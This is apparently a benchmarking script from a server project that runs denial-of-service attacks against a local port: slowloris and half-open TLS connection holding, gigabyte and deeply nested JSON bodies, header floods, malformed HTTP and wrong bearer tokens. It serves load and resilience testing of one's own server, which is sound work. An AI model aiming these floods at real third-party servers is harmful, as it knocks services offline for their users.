#!/usr/bin/env python3
"""Attacks a server until it is stopped: what bench/server.py measures others' latency beside.

  bench/attacks.py NAME PORT

Those on its gRPC port are in bench/grpc_attacks.py.

Each attack but the two of many connections comes at a fixed rate, so that what is measured is what an attacker gets
for a request, not how fast this program is.
"""
import itertools
import socket
import sys
import time

MANY = 1000
SECOND = 1.0
POST = b"POST /predict HTTP/1.1\r\nHost: attack\r\n"


def connect(port):
    client = socket.create_connection(("127.0.0.1", port), timeout=10)
    client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return client


def hold_many(port, beginning, drip):
    """Many connections that never get to the end of what they begin; those that are closed are made anew."""
    clients = {}
    while True:
        for place in range(MANY):
            try:
                if place not in clients:
                    clients[place] = connect(port)
                    clients[place].sendall(beginning)
                else:
                    clients[place].sendall(drip)
                    clients[place].setblocking(False)
                    try:
                        if not clients[place].recv(4096):
                            raise ConnectionError
                    except BlockingIOError:
                        clients[place].setblocking(True)
            except OSError:
                if gone := clients.pop(place, None):
                    gone.close()
        time.sleep(SECOND)


def pace(a_second):
    """Waits before each that is taken, so that there are so many a second; what was late is made up for a second."""
    due = time.monotonic()
    for count in itertools.count():
        due = max(due + 1 / a_second, time.monotonic() - SECOND)
        time.sleep(max(0.0, due - time.monotonic()))
        yield count


def send_often(port, a_second, *requests):
    """Sends each in turn on a connection of its own, as far as the server takes it, and reads what it says."""
    for count in pace(a_second):
        try:
            with connect(port) as client:
                for part in requests[count % len(requests)]():
                    client.sendall(part)
                client.recv(4096)
        except OSError:
            pass  # it need not hear us out


def whole(data):
    return lambda: (data,)


def gigabyte():
    yield POST + b"Transfer-Encoding: chunked\r\n\r\n"
    chunk = b"100000\r\n" + b"x" * (1 << 20) + b"\r\n"
    for _ in range(1024):
        yield chunk


def body(data, *headers):
    lines = b"".join(header + b"\r\n" for header in headers)
    return POST + lines + b"Content-Length: %d\r\n\r\n" % len(data) + data


def attack(name, port):
    if name == "slowloris":
        hold_many(port, POST + b"X-A", b"a")
    elif name == "half_open_tls":
        hold_many(port, b"\x16\x03\x01\x02\x00\x01", b"\0")
    elif name == "gigabyte_body":
        send_often(port, 2, gigabyte, whole(POST + b"Content-Length: 1000000000\r\n\r\n" + b"x" * (1 << 16)))
    elif name == "deep_json":
        send_often(port, 10, whole(body(b'{"inputs": ' + b"[" * 500_000)), whole(body(b'{"a":' * 100_000)))
    elif name == "header_flood":
        send_often(port, 50, whole(b"GET / HTTP/1.1\r\n" + b"".join(b"X-%d: y\r\n" % i for i in range(50_000)) + b"\r\n"),
                   whole(b"GET /" + b"a" * 500_000 + b" HTTP/1.1\r\n\r\n"))
    elif name == "malformed_http":
        send_often(port, 200, whole(b"\0" * 1000), whole(b"GET\r\n\r\n"), whole(b"GET / HTTP/9.9\r\n\r\n"),
                   whole(POST + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\nxx"))
    elif name == "wrong_keys":
        send_often(port, 200, whole(body(b'{"inputs": "good"}', b"Authorization: Bearer wrong")),
                   whole(body(b'{"inputs": "good"}')))
    else:
        sys.exit(f"there is no attack {name}")


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]))
